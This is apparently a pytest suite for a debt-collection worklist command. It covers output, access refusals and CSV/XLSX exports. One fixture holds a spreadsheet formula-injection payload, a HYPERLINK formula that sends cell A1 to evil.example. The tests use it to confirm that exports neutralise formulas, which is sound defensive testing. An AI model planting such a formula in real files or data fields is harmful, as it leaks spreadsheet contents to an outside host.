"""`arrears worklist`: the table a collector reads, the files a spreadsheet opens, and clean
refusals in words for whoever may not see a list."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from arrears.apps.accounts.services import token_create
from arrears.apps.cases.models import Action, Case
from tests import factories

pytestmark = pytest.mark.django_db
ON = date(2026, 11, 25)
PHISH = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def ago(days: int) -> date:
    return ON - timedelta(days=days)


def action(debtor, *, due_on=ON, step="reminder", channel="letter"):
    case, _ = Case.objects.get_or_create(
        company=debtor.company, debtor=debtor, currency="EUR", defaults={"opened_on": ago(60)}
    )
    return Action.objects.create(
        case=case, step_code=step, channel=channel, role="collector", due_on=due_on
    )


@pytest.fixture
def acme():
    """cora's two debtors (one named like a formula), carl's one; otto at a second company."""
    c = factories.company("acme")
    cora, carl = factories.collector("cora", c), factories.collector("carl", c)
    x = factories.debtor(c, code="X1", name="Xylo AG", owner=cora)
    factories.item(x, due=ago(45), amount=12_000_00, broken_promises=1)
    action(x, due_on=ago(3), step="call", channel="phone")
    evil = factories.debtor(c, code="-EVIL", name=PHISH, owner=cora)
    factories.item(evil, due=ago(10), amount=5_000_00)
    action(evil)
    action(factories.debtor(c, code="C1", owner=carl))
    rival = factories.company("rival")
    factories.collector("otto", rival)
    return c


def as_(monkeypatch, username: str) -> None:
    from django.contrib.auth import get_user_model

    person = get_user_model().objects.get(username=username)
    monkeypatch.setenv("ARREARS_TOKEN", token_create(actor=person, name="t").secret)


def run(*args: str) -> str:
    out = StringIO()
    call_command("worklist", "--company", "acme", "--on", ON.isoformat(), *args, stdout=out)
    return out.getvalue()


def test_the_table_shows_rank_debtor_action_due_lateness_overdue_and_why(acme, monkeypatch):
    as_(monkeypatch, "cora")
    text = run()
    lines = text.splitlines()
    assert lines[0] == "Your worklist at acme on 2026-11-25: 2 actions"
    first = next(x for x in lines if x.lstrip().startswith("1 "))
    for shown in ("X1", "Xylo AG", "call", "phone", "2026-11-22", "3 days late", "EUR 12,000.00"):
        assert shown in first
    assert "oldest 45 days overdue (31-60), 1 broken promise: expect EUR 4,000.00" in first
    assert "C1" not in text  # carl's


def test_without_a_token_the_command_says_how_to_log_in(acme, monkeypatch, tmp_path):
    monkeypatch.delenv("ARREARS_TOKEN", raising=False)
    monkeypatch.setenv("ARREARS_TOKEN_FILE", str(tmp_path / "none"))
    with pytest.raises(CommandError, match="who are you"):
        run()


def test_another_collectors_list_is_refused_in_words(acme, monkeypatch):
    as_(monkeypatch, "cora")
    with pytest.raises(CommandError, match="cora does not own this account: .*read carl's"):
        run("--for", "carl")


def test_the_other_companys_collector_is_refused_in_words(acme, monkeypatch):
    as_(monkeypatch, "otto")
    with pytest.raises(CommandError, match=r"unknown company 'acme' \(yours: rival\)"):
        run()


def test_an_unknown_filter_is_refused_in_words(acme, monkeypatch):
    as_(monkeypatch, "cora")
    with pytest.raises(CommandError, match="'fax' is not a channel the worklist knows: use one"):
        run("--channel", "fax")


def test_for_and_team_do_not_go_together(acme, monkeypatch):
    as_(monkeypatch, "cora")
    with pytest.raises(CommandError, match="not allowed with argument"):
        run("--for", "carl", "--team")


def test_csv_export_neutralises_formulas_and_keeps_every_figure(acme, monkeypatch, tmp_path):
    as_(monkeypatch, "cora")
    path = tmp_path / "w.csv"
    run("--csv", str(path))
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert [r["debtor"] for r in rows] == ["X1", "'-EVIL"]
    assert rows[1]["name"] == "'" + PHISH
    first = rows[0]
    assert (first["overdue"], first["currency"], first["expected recovery"]) == (
        "12000.00",
        "EUR",
        "4000.00",
    )
    assert (first["days late"], first["days overdue"], first["broken promises"]) == ("3", "45", "1")
    assert (first["bucket"], first["score"], first["rank"]) == ("31-60", "571428", "1")
    assert first["reasons"].startswith("EUR 12,000.00 overdue, 3 days late, oldest 45 days")


def test_xlsx_export_neutralises_formulas_and_keeps_amounts_as_numbers(acme, monkeypatch, tmp_path):
    as_(monkeypatch, "cora")
    path = tmp_path / "w.xlsx"
    run("--xlsx", str(path))
    ws = load_workbook(path)["worklist"]
    header = [c.value for c in ws[1]]
    evil = {h: c for h, c in zip(header, ws[3], strict=True)}
    assert (evil["name"].value, evil["name"].data_type) == ("'" + PHISH, "s")
    assert evil["debtor"].value == "'-EVIL"
    assert (evil["overdue"].value, evil["overdue"].number_format) == (5000, "#,##0.00")


def test_a_credit_manager_reads_a_collectors_list_by_name(acme, monkeypatch):
    from arrears.apps.accounts.services import user_ensure

    user_ensure(username="maria", role="credit_manager", company=acme)
    as_(monkeypatch, "maria")
    text = run("--for", "carl")
    assert text.splitlines()[0] == "carl's worklist at acme on 2026-11-25: 1 action"
    assert "C1" in text and "X1" not in text
